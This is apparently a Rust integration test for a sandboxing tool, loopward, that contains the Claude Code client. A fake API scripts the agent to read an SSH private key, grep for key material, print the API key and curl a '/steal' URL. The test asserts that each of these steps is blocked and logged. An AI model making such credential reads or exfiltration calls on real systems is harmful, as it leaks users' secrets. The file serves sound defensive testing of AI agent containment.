//! The real Claude Code client (pinned, `scripts/claude-code-install.sh`) run whole inside an
//! agent's sandbox by `loopward contain`, against the test's fake Anthropic API on loopback:
//! its API calls reach the API only through loopward's gateway, which adds the real key (the
//! client holds a placeholder); its own `Read` of a key file fails; the session's ledger has
//! every egress decision and no key.

use crate::support::anthropic_server::{self, Reply};
use crate::support::clients::{scratch, Client};
use serde_json::json;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

const REAL_KEY: &str = "sk-ant-real-key-held-by-loopward-0042";

/// The folder the client is installed in (`…/node_modules`), which the sandbox must read.
fn install_root(claude: &Path) -> PathBuf {
    let mut at = claude.to_path_buf();
    while let Some(parent) = at.parent() {
        if at.file_name().is_some_and(|n| n == "node_modules") {
            return parent.to_path_buf();
        }
        at = parent.to_path_buf();
    }
    claude.parent().unwrap().to_path_buf()
}

/// The contained client's config: the main agent `root` with a shell, then `more` (other
/// agents, territories), then the real key brokered to the scratch API on `port` and the
/// client's install readable.
fn config(claude: &Path, port: u16, more: &str) -> String {
    format!(
        r#"
[run]
first = "root"

[[agent]]
name = "root"
tools = ["shell"]
{more}
[secrets.ANTHROPIC_API_KEY]
env = "REAL_ANTHROPIC_KEY"
gateway = "anthropic"
upstream = "http://127.0.0.1:{port}"

[env]
pass = ["IS_SANDBOX", "SHELL", "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "DISABLE_AUTOUPDATER"]

[read]
allow = ["{install}"]
"#,
        install = install_root(claude).display()
    )
}

/// `loopward <args>` in `<dir>/project` with nothing of the caller's environment but `PATH`:
/// its home `<dir>/home`, its state under `<dir>/state`, the real key in its environment.
fn loopward(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_loopward"))
        .current_dir(dir.join("project"))
        .args(args)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", dir.join("home"))
        .env("XDG_STATE_HOME", dir.join("state"))
        .env("REAL_ANTHROPIC_KEY", REAL_KEY)
        .env("SHELL", "/bin/bash")
        .env("IS_SANDBOX", "1")
        .env("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1")
        .env("DISABLE_AUTOUPDATER", "1")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// The client's headless session `id` on `prompt`, run whole inside `root`'s sandbox by
/// `loopward contain`: it succeeded; what it printed (stdout, stderr).
fn contained_session(dir: &Path, claude: &Path, id: &str, prompt: &str) -> (String, String) {
    let out = loopward(
        dir,
        &[
            "contain",
            "--agent",
            "root",
            "--id",
            id,
            "--",
            claude.to_str().unwrap(),
            "-p",
            prompt,
            "--output-format",
            "stream-json",
            "--verbose",
            "--permission-mode",
            "bypassPermissions",
        ],
    );
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    );
    assert!(out.status.success(), "stdout: {stdout}\nstderr: {stderr}");
    (stdout, stderr)
}

#[test]
fn the_real_client_contained_reaches_the_api_only_through_the_gateway_with_a_brokered_key() {
    let Some(claude) = Client::ClaudeCode.find() else {
        return;
    };
    let (dir, root, home) = scratch(&["src"]);
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE-KEY-BYTES").unwrap();
    let key_file = home.join(".ssh/id_ed25519");
    let (port, server) = anthropic_server::start(vec![
        Reply::tool("Read", json!({"file_path": key_file.to_str().unwrap()})),
        Reply::tool(
            "Grep",
            json!({"pattern": "PRIVATE", "path": home.join(".ssh").to_str().unwrap(), "output_mode": "content"}),
        ),
        Reply::bash("echo key=$ANTHROPIC_API_KEY; env | grep -c sk-ant-real; echo hi > src/out.txt; curl -s -m 3 http://127.0.0.2:9/steal || echo exfil-failed", "look around"),
        Reply::text("done"),
    ]);
    std::fs::write(root.join("loopward.toml"), config(&claude, port, "")).unwrap();
    let (stdout, stderr) = contained_session(dir.path(), &claude, "s1", "read the key");
    // Every API call arrived, each with the real key, which the client never held.
    let requests: Vec<_> = server
        .requests()
        .into_iter()
        .filter(|r| r.path.starts_with("/v1/messages"))
        .collect();
    assert!(requests.len() >= 3, "{requests:?}\n{stdout}\n{stderr}");
    for r in &requests {
        assert_eq!(
            r.api_key.as_deref(),
            Some(REAL_KEY),
            "{} {}",
            r.method,
            r.path
        );
    }
    let results = server.tool_results();
    let (_, read_failed, read_text) = &results[0];
    assert!(*read_failed, "{results:?}");
    assert!(!read_text.contains("PRIVATE-KEY-BYTES"), "{read_text}");
    let (_, _, grep) = &results[1];
    assert!(!grep.contains("PRIVATE-KEY-BYTES"), "{grep}");
    let (_, _, bash) = &results[2];
    crate::support::assert_says(bash, "key=loopward-brokered-ANTHROPIC_API_KEY");
    assert!(
        bash.contains("\n0") && bash.contains("127.0.0.2 is not in this agent's net allow-list"),
        "the real key is in the client's environment: {bash}"
    );
    crate::support::assert_file(&root, "src/out.txt", "hi\n");
    // The supervisor's ledger: the gateway's decisions, and no key anywhere under runs/.
    let events = std::fs::read_to_string(root.join("runs/s1/events.jsonl")).unwrap();
    crate::support::assert_says(&events, "\"reason\":\"gateway with ANTHROPIC_API_KEY\"");
    assert!(!stdout.contains(REAL_KEY) && !stderr.contains(REAL_KEY));
    for e in std::fs::read_dir(root.join("runs/s1")).unwrap() {
        let p = e.unwrap().path();
        let bytes = std::fs::read(&p).unwrap();
        assert!(
            !bytes
                .windows(REAL_KEY.len())
                .any(|w| w == REAL_KEY.as_bytes()),
            "{}",
            p.display()
        );
    }
}

#[test]
fn a_contained_clients_hooks_are_judged_and_recorded_by_the_supervisor_outside() {
    let Some(claude) = Client::ClaudeCode.find() else {
        return;
    };
    let (dir, root, _) = scratch(&["plans", "src"]);
    std::fs::write(root.join("plans/roadmap.md"), "# Roadmap\n").unwrap();
    let (port, server) = anthropic_server::start(vec![
        Reply::write(
            root.join("plans/roadmap.md").to_str().unwrap(),
            "# Mine now\n",
        ),
        Reply::bash(
            "echo hi > src/notes.txt; echo exit=$?; echo x > plans/b.md; echo plans=$?",
            "a command",
        ),
        Reply::text("done"),
    ]);
    let team = r#"
[[agent]]
name = "planner"
tools = ["shell"]

[[territory]]
paths = ["plans/**"]
owner = "planner"
"#;
    std::fs::write(root.join("loopward.toml"), config(&claude, port, team)).unwrap();
    let install = loopward(dir.path(), &["hook", "install"]);
    assert!(install.status.success(), "{install:?}");
    let (_, stderr) = contained_session(dir.path(), &claude, "s2", "take the roadmap");
    let results = server.tool_results();
    // The hook, inside, asked the supervisor, which refused the foreign write.
    let (_, denied, text) = &results[0];
    assert!(
        *denied && text.contains("belongs to planner"),
        "{results:?}\n{stderr}"
    );
    crate::support::assert_file(&root, "plans/roadmap.md", "# Roadmap\n");
    // Its Bash ran, wrapped by the hook in the agent's sandbox inside the contained one.
    let (_, _, bash) = &results[1];
    assert!(
        bash.contains("exit=0") && bash.contains("plans=1"),
        "{bash}"
    );
    crate::support::assert_file(&root, "src/notes.txt", "hi\n");
    // The session's hook decisions are in a ledger the supervisor wrote, outside the sandbox.
    let sessions: Vec<_> = std::fs::read_dir(root.join("runs"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("claude-code-"))
        .collect();
    assert_eq!(sessions.len(), 1, "{sessions:?}");
    let events =
        std::fs::read_to_string(root.join("runs").join(&sessions[0]).join("events.jsonl")).unwrap();
    assert!(events.contains("\"kind\":\"gate_decision\""), "{events}");
    assert!(events.contains("plans/roadmap.md"), "{events}");
    let verify = loopward(
        dir.path(),
        &["verify", "--unfinished", &format!("runs/{}", sessions[0])],
    );
    assert!(verify.status.success(), "{verify:?}");
}
